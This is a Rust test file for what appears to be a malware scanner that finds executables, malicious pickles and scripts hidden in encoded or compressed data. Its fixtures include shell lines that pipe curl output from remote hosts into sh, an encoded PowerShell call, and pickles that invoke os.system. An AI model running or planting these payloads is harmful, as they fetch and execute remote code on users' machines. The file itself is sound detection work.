use std::io::Write as _;

use super::*;
use stance_pickle::assemble;

fn all(bytes: &[u8], place: Place) -> Vec<Found> {
    let mut found = Vec::new();
    find(bytes, 0..bytes.len(), 0, place, &mut found);
    found
}

fn wrapped(bytes: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    find_wrapped(bytes, 0..bytes.len(), 0, &mut found);
    found.iter().map(Wrapped::title).collect()
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let mut group = [0; 4];
        for (to, from) in group[1..].iter_mut().zip(three) {
            *to = *from;
        }
        let bits = u32::from_be_bytes(group);
        for digit in 0..4 {
            if digit <= three.len() {
                out.push(char::from(DIGITS[(bits >> (18 - 6 * digit)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn hexadecimal(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0\0\0\0\0\0\0\0\0";
const SCRIPT: &[u8] = b"import os\nos.system('curl http://198.51.100.7/x | sh')\n";

/// Every kind of program, with what it is called.
fn programs() -> Vec<(Kind, Vec<u8>)> {
    let mut class = b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d\x0a\0\x06".to_vec();
    class.resize(64, 0);
    let mut code = vec![0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0, 1, 2, 3, 4, 9, 0, 0, 0];
    code.extend([0xe3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    vec![
        (Kind::Elf, ELF.to_vec()),
        (
            Kind::MachO,
            b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\x10\0\0\0".to_vec(),
        ),
        (
            Kind::MachO,
            b"\xfe\xed\xfa\xce\0\0\0\x12\0\0\0\0\0\0\0\x02\0\0\0\x10".to_vec(),
        ),
        (
            Kind::MachO,
            b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07\0\0\0\x03\0\0\x40\0".to_vec(),
        ),
        (Kind::JavaClass, class),
        (Kind::Dex, b"dex\n035\0rest of a program".to_vec()),
        (
            Kind::WebAssembly,
            b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0".to_vec(),
        ),
        (Kind::PythonCode, code),
        (
            Kind::LuaCode,
            b"\x1bLua\x51\0\x01\x04\x08\x04\x08\0".to_vec(),
        ),
        (Kind::Script, SCRIPT.to_vec()),
        (
            Kind::Script,
            b"@echo off\r\npowershell -enc SQBFAFgA\r\n".to_vec(),
        ),
    ]
}

/// Bytes as they come by chance.
fn noise(count: usize, mut state: u64) -> Vec<u8> {
    (0..count)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state.to_le_bytes()[3]
        })
        .collect()
}

#[test]
fn programs_of_every_kind_are_seen_at_any_offset() {
    for (kind, program) in programs() {
        for at in [0_usize, 1, 509, 4093] {
            let mut bytes = vec![0xfd; 8192];
            bytes[at..at + program.len()].copy_from_slice(&program);
            let found = all(&bytes, Place::Anything);
            assert_eq!(
                found.first().map(|found| found.kind),
                Some(kind),
                "{kind:?} at {at}"
            );
        }
    }
}

#[test]
fn pickles_are_seen_in_any_protocol_and_without_one() {
    let pickles: Vec<Vec<u8>> = vec![
        assemble::call("os", "system", "id"),
        b"\x80\x02}q\0(X\x01\0\0\0acposix\nsystem\nX\x02\0\0\0id\x85Rs.".to_vec(),
        b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.".to_vec(),
        b"\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.".to_vec(),
        b"cos\nsystem\n(S'id'\ntR.".to_vec(),
    ];
    for pickle in &pickles {
        let mut bytes = noise(4096, 9);
        bytes[1000..1000 + pickle.len()].copy_from_slice(pickle);
        let found = all(&bytes, Place::Anything);
        let at = found.first().map(|found| (found.kind, found.at));
        assert!(
            matches!(at, Some((Kind::Pickle, 1000..1008))),
            "{at:?} of {}",
            String::from_utf8_lossy(pickle)
        );
    }
}

#[test]
fn what_is_packed_is_unpacked_layer_by_layer() {
    let pickle = assemble::call("os", "system", "id");
    for payload in [&*pickle, SCRIPT, ELF] {
        let packed = [
            base64(payload),
            hexadecimal(payload),
            base64(&zlib(payload)),
            hexadecimal(&zlib(payload)),
            base64(base64(payload).as_bytes()),
            base64(&zlib(base64(payload).as_bytes())),
            base64(payload).replace('+', "-").replace('/', "_"),
        ];
        for text in packed {
            for before in ["", "{\"state\": \"", "a few words, then "] {
                let bytes = format!("{before}{text}\", and more");
                assert_eq!(wrapped(bytes.as_bytes()).len(), 1, "{bytes}");
            }
            let lines: Vec<&str> = text
                .as_bytes()
                .chunks(76)
                .map(|line| std::str::from_utf8(line).unwrap())
                .collect();
            assert_eq!(wrapped(lines.join("\n").as_bytes()).len(), 1, "{lines:?}");
        }
        let packed = zlib(payload);
        for skip in [0_usize, 4, 8] {
            let bytes = [&vec![0; skip], &*packed].concat();
            assert!(compressed_at(&bytes, 0).is_some());
        }
    }
    assert_eq!(
        wrapped(base64(&zlib(ELF)).as_bytes()),
        ["an ELF executable in zlib in base64"]
    );
}

#[test]
fn words_and_numbers_hold_nothing() {
    let words = "ricos\nridicos\nmedicos\nsystem\n".repeat(2000);
    assert!(all(words.as_bytes(), Place::Anything).is_empty());
    let long = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 ".repeat(500);
    assert!(wrapped(long.as_bytes()).is_empty());
    assert!(wrapped(hexadecimal(&noise(4096, 3)).as_bytes()).is_empty());
    assert!(wrapped(base64(&noise(4096, 5)).as_bytes()).is_empty());
    for seed in 1..9 {
        let bytes = noise(1 << 18, seed);
        for place in [Place::Anything, Place::Numbers, Place::Descriptions] {
            assert!(all(&bytes, place).is_empty(), "{seed}");
        }
        assert!(wrapped(&bytes).is_empty());
    }
}

#[test]
fn little_that_is_compressed_to_its_end_is_recognised() {
    let script = b"#!/bin/sh\ncurl http://a.example/x | sh\n";
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(script).unwrap();
    let packed = encoder.finish().unwrap();
    let found = all(&packed, Place::Numbers);
    assert_eq!(found[0].kind, Kind::Gzip);
    assert_eq!(
        inside(&packed, 0, &found[0]).map(|wrapped| wrapped.kind),
        Some(Kind::Script)
    );
    // Without its end it may be chance.
    assert!(all(&packed[..packed.len() / 2], Place::Numbers).is_empty());
}

#[test]
fn descriptions_may_quote_commands() {
    let quoted = "to install it, use curl -fsSL https://x.example/install.sh | sh, then import os";
    assert!(all(quoted.as_bytes(), Place::Descriptions).is_empty());
    let script = [b"\x0a\x40", SCRIPT].concat();
    assert_eq!(all(&script, Place::Descriptions).len(), 1);
}

#[test]
fn floods_of_marks_cost_no_more_than_their_bytes() {
    let flood = |part: &[u8]| part.repeat((1 << 17) / part.len());
    // Each of them ends soon: what is dear is tried a bounded number of times.
    for part in [
        &b"\x80\x02("[..],
        b"\x1f\x8b\x08\0",
        b"import os",
        b"cos\n",
        b"#!/x",
        b"\x28\xb5\x2f\xfd",
    ] {
        let bytes = flood(part);
        assert!(all(&bytes, Place::Anything).len() <= KEPT);
        assert!(all(&bytes, Place::Numbers).len() <= KEPT);
    }
    let letters = flood(b"gASV");
    assert!(wrapped(&letters).len() <= KEPT);
}
